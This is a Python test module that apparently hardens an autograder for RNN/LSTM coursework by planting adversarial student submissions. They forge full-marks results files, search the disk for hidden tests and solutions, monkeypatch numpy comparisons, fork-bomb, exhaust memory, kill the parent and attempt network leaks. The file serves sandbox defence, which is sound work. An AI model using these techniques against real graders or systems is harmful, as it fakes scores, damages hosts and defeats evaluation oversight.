"""Adversarial submissions. Expected result for EVERY attack: score 0 on every graded item,
the grader survives (one complete result row), and nothing outside the output folder changes.

Each attack appends the same small harness to the reference files: every student function
(and CaptioningRNN.loss / .sample) is wrapped so that a call first runs the attack's `act`
code, then returns what `act` returned -- or, when `act` returns None, a deliberately WRONG
version of the honest result. So a correct grader gives 0 everywhere; any point scored means
the attack worked (forged a result, read the solution, fooled a comparison...). `at_import`
code runs when the module is imported.

Destructive attacks only touch folders holding the file TARGET_MARKER (the tests plant it in
their temporary course root, output folder and canary folder), so a broken sandbox damages
nothing else while still being detected.
"""
from __future__ import annotations

import textwrap

from .spec import LAYERS, MODEL, Append, Case

CANARY_DIR = "/tmp/coursekit-corpus-canary"     # outside any sandbox; the tests watch it
TARGET_MARKER = ".coursekit-corpus-target"
LISTEN_PORT = 47391                             # the network test listens on 127.0.0.1 here
BUSY_PROCESSES = 55                             # busy_sessions: processes it tries to start
SLEEP_MARK = "987.654321"                       # `sleep 987.654321`: leftover-process marker
FUNCTIONS = ["rnn_step_forward", "rnn_step_backward", "rnn_forward", "rnn_backward",
             "word_embedding_forward", "word_embedding_backward", "lstm_step_forward",
             "lstm_step_backward", "lstm_forward", "lstm_backward"]

HARNESS = '''
# ----- corpus attack harness -----
import os as _ck_os, sys as _ck_sys, time as _ck_time, json as _ck_json
_CK_CANARY, _CK_MARKER, _CK_PORT, _CK_SLEEP = {canary!r}, {marker!r}, {port!r}, {sleep!r}


def _ck_wrong(value):
    if isinstance(value, tuple):
        return tuple(_ck_wrong(v) for v in value)
    if isinstance(value, dict):
        return {{k: _ck_wrong(v) for k, v in value.items()}}
    if isinstance(value, np.ndarray):
        return (np.zeros_like(value) + 3).astype(value.dtype)
    if isinstance(value, (float, np.floating)):
        return float(value) + 1000.0
    return value


def _ck_ancestors():
    pids, pid = [], _ck_os.getppid()
    while pid > 1 and len(pids) < 30:
        pids.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return pids


def _ck_guess_paths():
    """Folders and files a submission could guess: env, ancestors' cwd and argv, parents."""
    paths = {{"/autograder", "/autograder/results", "/autograder/source", _CK_CANARY,
              _ck_os.getcwd(), _ck_os.path.dirname(_ck_os.getcwd())}}
    for key in ("COURSEKIT_ROOT", "HOME", "PWD", "OLDPWD", "TMPDIR"):
        if _ck_os.environ.get(key):
            paths.add(_ck_os.environ[key])
    here = _ck_os.path.dirname(_ck_os.path.abspath(__file__))
    for _ in range(5):
        paths.add(here)
        here = _ck_os.path.dirname(here)
    for pid in _ck_ancestors():
        try:
            paths.add(_ck_os.readlink("/proc/%d/cwd" % pid))
            with open("/proc/%d/cmdline" % pid, "rb") as fh:
                args = [a.decode("utf-8", "replace") for a in fh.read().split(b"\\0")]
        except Exception:
            continue
        paths.update(a for a in args if a.startswith("/"))
        paths.update(args[i + 1] for i, a in enumerate(args[:-1]) if a == "--out")
    return sorted(p for p in paths if p)


def _ck_attack(fn, args, kwargs):
{act}


def _ck_wrap(fn):
    def wrapped(*args, **kwargs):
        value = _ck_attack(fn, args, kwargs)
        return _ck_wrong(fn(*args, **kwargs)) if value is None else value
    wrapped.__name__ = getattr(fn, "__name__", "wrapped")
    return wrapped


for _ck_name in {functions!r}:
    globals()[_ck_name] = _ck_wrap(globals()[_ck_name])
'''

MODEL_HARNESS = '''
# ----- corpus attack harness -----
from ..rnn_layers import _ck_wrap
CaptioningRNN.loss = _ck_wrap(CaptioningRNN.loss)
CaptioningRNN.sample = _ck_wrap(CaptioningRNN.sample)
'''


def attack(name: str, description: str, act: str = "return None", at_import: str = "") -> Case:
    """An attack case: `act` is the body of _ck_attack(fn, args, kwargs)."""
    layers = HARNESS.format(canary=CANARY_DIR, marker=TARGET_MARKER, port=LISTEN_PORT,
                            sleep=SLEEP_MARK, functions=FUNCTIONS,
                            act=textwrap.indent(textwrap.dedent(act).strip("\n"), "    "))
    if at_import:
        layers += "\n" + textwrap.dedent(at_import).strip("\n") + "\n"
    return Case(name=name, description=description,
                edits=(Append(LAYERS, layers), Append(MODEL, MODEL_HARNESS)), tags=("attack",))


FAKE_GRADESCOPE = ('{"score": 100.0, "tests": [{"name": "rnn_step_forward", "score": 5, '
                   '"max_score": 5, "status": "passed"}], "output": "All tests passed"}')

ATTACKS: list[Case] = [
    attack("exit_at_import", "os._exit(0) while the module is imported",
           at_import="_ck_os._exit(0)"),
    attack("exit_in_call", "os._exit(0) inside every student call", "_ck_os._exit(0)"),
    attack("control_flow_exceptions", "raises SystemExit / KeyboardInterrupt / GeneratorExit",
           "raise (SystemExit(0), KeyboardInterrupt(), GeneratorExit())[len(fn.__name__) % 3]"),
    attack("fake_test_output", "prints PASSED lines and a fake Gradescope JSON, returns wrong values",
           f"""
           for stream in (_ck_sys.stdout, _ck_sys.stderr, _ck_sys.__stdout__):
               stream.write("PASSED\\n100% tests passed\\n" + {FAKE_GRADESCOPE!r} + "\\n")
               stream.flush()
           _ck_os.write(1, b"==== 16 passed in 0.01s ====\\n")
           return None
           """),
    attack("forge_results_files", "writes full-marks results.json / result.full.json wherever it can",
           f"""
           fake = {FAKE_GRADESCOPE!r}
           targets = [p for p in _ck_guess_paths() if p.endswith(".json")]
           targets += [_ck_os.path.join(d, n) for d in _ck_guess_paths() + ["/autograder/results"]
                       for n in ("results.json", "result.full.json")]
           for t in targets:
               try:
                   _ck_os.makedirs(_ck_os.path.dirname(t), exist_ok=True)
                   with open(t, "w") as fh:
                       fh.write(fake)
               except Exception:
                   pass
           return None
           """),
    attack("read_solutions", "searches the filesystem for the reference and uses it if found",
           """
           global _ck_found
           try:
               _ck_found
           except NameError:
               _ck_found = None
               import importlib.util
               roots = _ck_guess_paths() + ["/"]
               deadline = _ck_time.time() + 2.0
               for root in roots:
                   for d, subdirs, files in _ck_os.walk(root if _ck_os.path.isdir(root) else "/nonexistent"):
                       subdirs[:] = [s for s in subdirs if s not in ("proc", "sys", "dev")]
                       if d.count("/") > 8 or _ck_time.time() > deadline:
                           subdirs[:] = []
                       for f in files:
                           p = _ck_os.path.join(d, f)
                           if f.startswith("test_") and f.endswith(".py"):
                               try:
                                   print("LEAKED-HIDDEN-TEST " + open(p).read(200))
                               except Exception:
                                   pass
                           if f == "rnn_layers.py" and p != _ck_os.path.abspath(__file__):
                               try:
                                   if "### BEGIN SOLUTION" in open(p).read():
                                       spec = importlib.util.spec_from_file_location("_ck_sol", p)
                                       mod = importlib.util.module_from_spec(spec)
                                       spec.loader.exec_module(mod)
                                       _ck_found = mod
                               except Exception:
                                   pass
           if _ck_found is not None and hasattr(_ck_found, fn.__name__):
               return getattr(_ck_found, fn.__name__)(*args, **kwargs)
           return None
           """),
    attack("peek_caller_frames", "walks sys._getframe / inspect.stack / gc for expected arrays",
           """
           import gc, inspect
           honest = fn(*args, **kwargs)
           first = honest[0] if isinstance(honest, tuple) else honest
           shape = getattr(first, "shape", None)
           frame = _ck_sys._getframe(1)
           while frame is not None:
               for v in list(frame.f_locals.values()):
                   if isinstance(v, np.ndarray) and v.shape == shape and not any(v is a for a in args):
                       print("found a candidate in", frame.f_code.co_name)
               frame = frame.f_back
           _ = [f.function for f in inspect.stack()]
           for obj in gc.get_objects():
               if isinstance(obj, dict) and "expected" in obj:
                   print("found expected in gc")
           return None
           """),
    attack("monkeypatch_numpy", "np.allclose / np.testing / np.linalg.norm made to always agree",
           at_import="""
           np.allclose = lambda *a, **k: True
           np.array_equal = lambda *a, **k: True
           np.testing.assert_allclose = lambda *a, **k: None
           np.testing.assert_array_equal = lambda *a, **k: None
           np.linalg.norm = lambda *a, **k: 0.0
           np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
           """),
    attack("monkeypatch_builtins", "rebinds builtins (isinstance, abs, max, AssertionError)",
           at_import="""
           import builtins as _ck_b
           _ck_b.AssertionError = type("AssertionError", (Exception,), {})
           _ck_b.abs = lambda x: 0
           _ck_b.max = lambda *a, **k: 0
           _ck_real_isinstance = _ck_b.isinstance
           _ck_b.isinstance = lambda o, t: True if t is float else _ck_real_isinstance(o, t)
           """),
    attack("lying_ndarray", "returns an ndarray subclass whose comparisons and arithmetic lie",
           """
           class Liar(np.ndarray):
               def __eq__(self, other): return np.ones(self.shape, dtype=bool)
               def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
               def __sub__(self, other): return np.zeros(self.shape)
               def __rsub__(self, other): return np.zeros(self.shape)
               def __abs__(self): return np.zeros(self.shape)
           honest = _ck_wrong(fn(*args, **kwargs))
           lie = lambda v: v.view(Liar) if isinstance(v, np.ndarray) else v
           if isinstance(honest, tuple):
               return tuple(lie(v) for v in honest)
           return lie(honest)
           """),
    attack("eq_always_true", "returns objects whose __eq__ is always True and which fake shape",
           """
           class Anything:
               shape = property(lambda self: (2, 3))
               dtype = np.dtype("float64")
               def __eq__(self, other): return True
               def __ne__(self, other): return False
               def __float__(self): return 0.0
               def __len__(self): return 5
               def __getitem__(self, i):
                   if isinstance(i, int) and i >= 5:
                       raise IndexError(i)
                   return self
           return tuple(Anything() for _ in range(5))
           """),
    attack("array_protocol_tricks", "objects with lying __array__, __array_interface__, __index__",
           """
           class Tricky:
               def __array__(self, *a, **k): return np.zeros((10 ** 4, 10 ** 4))
               __array_interface__ = {"shape": (10 ** 12,), "typestr": "<f8", "data": (8, False),
                                      "version": 3}
               def __index__(self): return 10 ** 18
               def __len__(self): return 10 ** 18
           return (Tricky(), Tricky(), Tricky(), Tricky(), Tricky())
           """),
    attack("infinite_loop", "ignores catchable signals and spins forever in every call",
           """
           import signal
           for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
               try:
                   signal.signal(s, signal.SIG_IGN)
               except Exception:
                   pass
           while True:
               pass
           """),
    attack("sleep_at_import", "time.sleep(10**6) at import", at_import="_ck_time.sleep(10 ** 6)"),
    attack("memory_bomb", "allocates and touches memory until it fails",
           """
           hog = []
           while True:
               hog.append(np.ones(32 * 1024 * 1024))
           """),
    attack("stack_overflow", "raises the recursion limit and recurses until the C stack breaks",
           """
           _ck_sys.setrecursionlimit(10 ** 8)
           def down(n):
               return down(n + 1) + 1
           return down(0)
           """),
    attack("fork_bomb_bounded", "forks up to 200 long-sleeping children, then returns wrong values",
           """
           for _ in range(200):
               try:
                   pid = _ck_os.fork()
               except OSError:
                   break
               if pid == 0:
                   try:
                       _ck_os.execv("/bin/sleep", ["sleep", _CK_SLEEP])
                   finally:
                       _ck_os._exit(0)
           return None
           """),
    attack("detached_background", "double fork + setsid; the orphan writes results and the canary later",
           """
           if _ck_os.fork() == 0:
               try:
                   _ck_os.setsid()
                   if _ck_os.fork() == 0:
                       for fd in (0, 1, 2):
                           try:
                               _ck_os.close(fd)
                           except OSError:
                               pass
                       _ck_time.sleep(3)
                       for d in _ck_guess_paths() + [_CK_CANARY]:
                           for n in ("results.json", "late-write.txt"):
                               try:
                                   with open(_ck_os.path.join(d, n), "w") as fh:
                                       fh.write('{"score": 100.0, "tests": []}')
                               except Exception:
                                   pass
                       _ck_os.execv("/bin/sleep", ["sleep", _CK_SLEEP])
               finally:
                   _ck_os._exit(0)
           return None
           """),
    attack("network_access", "connects to a listener on 127.0.0.1 and to the internet",
           """
           import socket, urllib.request
           for host in ("127.0.0.1", "1.1.1.1"):
               try:
                   s = socket.create_connection((host, _CK_PORT if host == "127.0.0.1" else 53), timeout=1)
                   s.sendall(b"LEAK from the sandbox")
                   s.close()
               except Exception:
                   pass
           try:
               urllib.request.urlopen("http://127.0.0.1:%d/leak" % _CK_PORT, timeout=1).read()
           except Exception:
               pass
           try:
               urllib.request.urlopen("http://example.com/", timeout=1).read()
           except Exception:
               pass
           return None
           """),
    attack("huge_output", "writes hundreds of MB to stdout and stderr",
           """
           chunk = "x" * (1 << 20) + "\\n"
           for _ in range(300):
               _ck_sys.stdout.write(chunk)
           for _ in range(50):
               _ck_sys.stderr.write(chunk)
           _ck_sys.stdout.flush()
           return None
           """),
    attack("kill_parent", "SIGKILLs its parent and its own process group",
           """
           import signal
           try:
               _ck_os.kill(_ck_os.getppid(), signal.SIGKILL)
           except Exception:
               pass
           try:
               _ck_os.killpg(_ck_os.getpgrp(), signal.SIGKILL)
           except Exception:
               pass
           return None
           """),
    attack("delete_files", "rmtree on every guessable folder (only marked ones: see TARGET_MARKER)",
           """
           import shutil
           for p in _ck_guess_paths():
               d = p if _ck_os.path.isdir(p) else _ck_os.path.dirname(p)
               for cand in (d, _ck_os.path.dirname(d)):
                   if _ck_os.path.exists(_ck_os.path.join(cand, _CK_MARKER)):
                       shutil.rmtree(cand, ignore_errors=True)
           return None
           """),
    attack("protocol_garbage", "writes garbage and giant length prefixes to every open descriptor",
           """
           import struct
           for fd in range(3, 256):
               try:
                   _ck_os.write(fd, struct.pack("<Q", 2 ** 62) + b"\\x93NUMPY garbage" * 100)
               except OSError:
                   pass
           return None
           """),
    attack("busy_sessions", "starts busy processes, each in a new session, to starve the others",
           f"""
           for _ in range({BUSY_PROCESSES}):
               try:
                   if _ck_os.fork() == 0:
                       _ck_os.setsid()
                       try:    # the marker in the command line finds leftovers
                           _ck_os.execv("/bin/sh", ["sh", "-c", "while :; do :; done", _CK_SLEEP])
                       finally:
                           _ck_os._exit(0)
               except OSError:
                   break
           return None
           """),
    attack("callback_flood", "floods the judge's substituted functions with int8 and huge arrays",
           """
           module = _ck_sys.modules.get(fn.__module__)
           proxies = [v for v in vars(module).values() if type(v).__name__ == "JudgeFunction"]
           huge = [np.ones((4096, 4096), dtype=np.int8), np.ones(1 << 23)]
           began = _ck_time.monotonic()
           while proxies and _ck_time.monotonic() - began < 5:
               for proxy in proxies:
                   for value in huge:
                       try:
                           proxy(value, value, value, value, value)
                       except Exception:
                           pass
           return None
           """),
]
